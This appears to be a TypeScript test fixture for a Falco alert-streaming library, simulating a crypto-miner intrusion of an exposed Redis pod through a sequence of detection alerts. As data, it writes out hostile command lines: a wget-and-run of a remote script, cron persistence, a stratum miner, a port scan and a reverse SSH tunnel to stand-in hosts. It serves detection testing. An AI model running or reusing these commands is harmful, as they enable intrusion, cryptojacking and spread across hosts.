/** The bundled scenario of a crypto miner. @module */
import type { Scenario } from "../scenario.ts";
import { call, child, execve, type Fields, first, openat, tcp } from "./_fields.ts";
import { deepFreeze } from "./_freeze.ts";
import { rules } from "./_rules.ts";

// Nobody in the image's /etc/passwd has the user id 999, so Falco knows no name for it.
const redis: Fields = {
  "container.image.repository": "registry.example.com/platform/redis",
  "container.image.tag": "6.0.8",
  "container.name": "redis",
  "k8s.ns.name": "sessions",
  "proc.tty": 0,
  "user.loginuid": -1,
  "user.name": null,
  "user.uid": 999,
};
const firstPod: Fields = {
  ...redis,
  "container.id": "c40d51e8fa97",
  "k8s.pod.name": "session-store-0",
};
const secondPod: Fields = {
  ...redis,
  "container.id": "9b27e6013cd5",
  "k8s.pod.name": "session-store-1",
};
const shim = { name: "containerd-shim", pid: 18104 };
const dropped = "EXE_WRITABLE|EXE_UPPER_LAYER";
const pool = "203.0.113.33:3333";
const mining = "/var/tmp/.k/kswapd0 -o stratum+tcp://pool.example.com:3333 -u w-5501";

// The first pod, from the server that took the command down to the miner.
const server = first(firstPod, shim, 18220, "/usr/local/bin/redis-server", "redis-server *:6379");
const look = child(server, 22871, "/bin/dash", "sh -c uname -m; nproc; free -m");
const download = child(
  server,
  22904,
  "/bin/dash",
  "sh -c wget -q -O /tmp/i.sh http://203.0.113.90/i.sh && sh /tmp/i.sh",
);
const wget = child(
  download,
  22905,
  "/usr/bin/wget",
  "wget -q -O /tmp/i.sh http://203.0.113.90/i.sh",
);
const script = child(download, 22911, "/bin/dash", "sh /tmp/i.sh");
const crontab = child(script, 22926, "/usr/bin/crontab", "crontab -");
const unpack = child(script, 22934, "/dev/shm/.w", ".w --unpack /var/tmp/.k");
const bench = child(script, 22948, "/var/tmp/.k/kswapd0", "kswapd0 --bench=1M");
const timeout = child(script, 22960, "/usr/bin/timeout", `timeout 86400 ${mining} -p a0`);
const miner = child(timeout, 22961, "/var/tmp/.k/kswapd0", mining.replace("/var/tmp/.k/", ""));
const scan = child(script, 23010, "/var/tmp/.k/pscan", "pscan --rate 200 -p6379 192.0.2.0/24");
const ssh = child(
  script,
  23055,
  "/usr/bin/ssh",
  "ssh -p 443 -N -R 2222:localhost:6379 t@203.0.113.91",
);

// The second pod, on another node, found by the scan.
const elsewhere = "node-5.example.com";
const server2 = first(
  secondPod,
  { name: "containerd-shim", pid: 9377 },
  9412,
  "/usr/local/bin/redis-server",
  "redis-server *:6379",
);
const download2 = child(server2, 31560, "/bin/dash", String(download["proc.cmdline"]));
const wget2 = child(download2, 31561, "/usr/bin/wget", String(wget["proc.cmdline"]));
const script2 = child(download2, 31566, "/bin/dash", "sh /tmp/i.sh");
const bench2 = child(script2, 31584, "/var/tmp/.k/kswapd0", "kswapd0 --bench=1M");
const timeout2 = child(script2, 31590, "/usr/bin/timeout", `timeout 86400 ${mining} -p a1`);
const miner2 = child(timeout2, 31591, "/var/tmp/.k/kswapd0", mining.replace("/var/tmp/.k/", ""));

const responder = first(
  { ...firstPod, "proc.tty": 34816, "user.name": "root", "user.uid": 0 },
  { name: "runc", pid: 24890 },
  24903,
  "/bin/bash",
  "bash",
);

/**
 * A miner that gets into a data store open to the network, hides, calls its pool again and again and
 * goes on to a second node. Twenty-four minutes, on two hosts; the user has no name, as Falco often sees it.
 *
 * Frozen through and through: copy it to change it.
 *
 * @example
 * ```ts
 * import { scenarios } from "@falco-streams/core/harness";
 * import assert from "node:assert/strict";
 *
 * const rules = scenarios.cryptoMiner.alerts.map((alert) => alert.rule);
 * assert(rules.includes("Detect crypto miners using the Stratum protocol"));
 * ```
 */
export const cryptoMiner: Scenario = deepFreeze<Scenario>({
  version: 1,
  name: "crypto miner",
  description: "A data store that is open to the network runs a stranger's script, which drops a " +
    "miner, keeps itself alive and spreads to a second pod.",
  falcoVersion: "0.43.1",
  start: "2026-01-01T01:00:00Z",
  hostname: "node-3.example.com",
  alerts: [
    { ...rules.runShellUntrusted, output_fields: execve(look) },
    { ...rules.runShellUntrusted, afterMs: 4_402, output_fields: execve(download) },
    { ...rules.ingressCopy, afterMs: 12, output_fields: execve(wget) },
    {
      ...rules.scheduleCron,
      afterMs: 1_387,
      output_fields: { ...execve(crontab), "fd.name": null },
    },
    {
      ...rules.scheduleCron,
      afterMs: 3,
      output_fields: openat(crontab, "/etc/cron.d/.placeholder", "O_TRUNC|O_CREAT|O_WRONLY"),
    },
    { ...rules.executionFromShm, afterMs: 642, output_fields: execve(unpack, "EXE_WRITABLE") },
    { ...rules.dropAndExecute, afterMs: 1_905, output_fields: execve(bench, dropped) },
    { ...rules.ptraceAntiDebug, afterMs: 21, output_fields: call(bench, "ptrace") },
    { ...rules.stratumMiner, afterMs: 6_330, output_fields: execve(timeout) },
    { ...rules.dropAndExecute, afterMs: 4, output_fields: execve(miner, dropped) },
    {
      ...rules.minerPoolPort,
      afterMs: 74,
      output_fields: tcp(miner, "connect", "192.0.2.61:47210", pool),
    },
    { ...rules.dropAndExecute, afterMs: 18_250, output_fields: execve(scan, dropped) },
    {
      ...rules.sshOddPort,
      afterMs: 9_006,
      output_fields: tcp(ssh, "connect", "192.0.2.61:39004", "203.0.113.91:443"),
    },
    {
      // The pool hangs up, and the miner comes back: half a minute each time.
      ...rules.minerPoolPort,
      afterMs: 31_000,
      repeat: 8,
      everyMs: 30_000,
      output_fields: tcp(miner, "connect", "192.0.2.61:47344", pool),
    },
    {
      ...rules.runShellUntrusted,
      hostname: elsewhere,
      afterMs: 3_118,
      output_fields: execve(download2),
    },
    { ...rules.ingressCopy, hostname: elsewhere, afterMs: 14, output_fields: execve(wget2) },
    {
      ...rules.dropAndExecute,
      hostname: elsewhere,
      afterMs: 3_871,
      output_fields: execve(bench2, dropped),
    },
    { ...rules.stratumMiner, hostname: elsewhere, afterMs: 6_280, output_fields: execve(timeout2) },
    {
      ...rules.dropAndExecute,
      hostname: elsewhere,
      afterMs: 3,
      output_fields: execve(miner2, dropped),
    },
    {
      ...rules.minerPoolPort,
      hostname: elsewhere,
      afterMs: 69,
      repeat: 5,
      everyMs: 60_000,
      output_fields: tcp(miner2, "connect", "192.0.2.77:50118", pool),
    },
    { ...rules.terminalShell, afterMs: 902_000, output_fields: execve(responder) },
  ],
});
